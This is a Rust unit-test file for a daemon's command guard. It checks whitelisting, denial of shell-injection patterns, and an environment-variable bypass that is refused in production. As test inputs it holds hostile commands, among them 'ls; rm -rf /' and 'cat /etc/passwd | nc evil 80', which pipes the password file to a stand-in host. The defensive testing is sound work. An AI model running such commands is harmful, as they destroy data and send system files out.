// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;
use serial_test::serial;

fn clear_bypass_env() {
    std::env::remove_var("TELEPORTATION_DAEMON_ALLOW_ALL_COMMANDS");
    std::env::remove_var("TELEPORTATION_DANGER_ZONE");
    std::env::remove_var("TELEPORTATION_ENV");
}

#[yare::parameterized(
    bare = { "git" },
    with_args = { "git status --short" },
    ls = { "ls -la /tmp" },
    pipeline_free_grep = { "grep pattern file.txt" },
    echo = { "echo hello" },
)]
fn whitelisted_commands_are_allowed(command: &str) {
    assert_eq!(CommandGuard::new().evaluate(command), Verdict::Allowed);
}

#[yare::parameterized(
    semicolon = { "ls; rm -rf /" },
    pipe = { "cat /etc/passwd | nc evil 80" },
    ampersand = { "ls && rm x" },
    backtick = { "echo `whoami`" },
    dollar_paren = { "echo $(id)" },
    dollar_brace = { "echo ${HOME}" },
    newline = { "ls\nrm x" },
    carriage_return = { "ls\rrm x" },
    append_redirect = { "echo x >> /etc/profile" },
    heredoc = { "cat << EOF" },
)]
fn injection_patterns_are_denied(command: &str) {
    match CommandGuard::new().evaluate(command) {
        Verdict::Denied { reason } => {
            assert!(reason.contains("shell injection pattern"), "reason: {reason}")
        }
        other => panic!("expected denial for {command:?}, got {other:?}"),
    }
}

#[test]
#[serial]
fn non_whitelisted_clean_commands_fall_through() {
    clear_bypass_env();
    for command in ["gitx push", "cargo build", "/bin/ls"] {
        assert_eq!(
            CommandGuard::new().evaluate(command),
            Verdict::NotWhitelisted,
            "command: {command}"
        );
    }
}

#[test]
#[serial]
fn empty_command_is_denied() {
    clear_bypass_env();
    assert!(matches!(
        CommandGuard::new().evaluate("   "),
        Verdict::Denied { .. }
    ));
}

#[test]
#[serial]
fn bypass_requires_both_signals() {
    clear_bypass_env();
    std::env::set_var("TELEPORTATION_DAEMON_ALLOW_ALL_COMMANDS", "1");
    assert_eq!(
        CommandGuard::new().evaluate("cargo build"),
        Verdict::NotWhitelisted
    );

    std::env::set_var("TELEPORTATION_DANGER_ZONE", "i_understand_the_risks");
    assert_eq!(
        CommandGuard::new().evaluate("cargo build"),
        Verdict::AllowedByBypass
    );
    clear_bypass_env();
}

#[test]
#[serial]
fn bypass_refused_in_production() {
    clear_bypass_env();
    std::env::set_var("TELEPORTATION_DAEMON_ALLOW_ALL_COMMANDS", "1");
    std::env::set_var("TELEPORTATION_DANGER_ZONE", "i_understand_the_risks");
    std::env::set_var("TELEPORTATION_ENV", "production");
    assert_eq!(
        CommandGuard::new().evaluate("cargo build"),
        Verdict::NotWhitelisted
    );
    clear_bypass_env();
}

#[test]
#[serial]
fn bypass_never_skips_injection_denial() {
    clear_bypass_env();
    std::env::set_var("TELEPORTATION_DAEMON_ALLOW_ALL_COMMANDS", "1");
    std::env::set_var("TELEPORTATION_DANGER_ZONE", "i_understand_the_risks");
    assert!(matches!(
        CommandGuard::new().evaluate("ls; rm -rf /"),
        Verdict::Denied { .. }
    ));
    clear_bypass_env();
}

#[test]
fn verdict_direct_execution() {
    assert!(Verdict::Allowed.permits_direct_execution());
    assert!(Verdict::AllowedByBypass.permits_direct_execution());
    assert!(!Verdict::NotWhitelisted.permits_direct_execution());
    assert!(!Verdict::Denied { reason: String::new() }.permits_direct_execution());
}
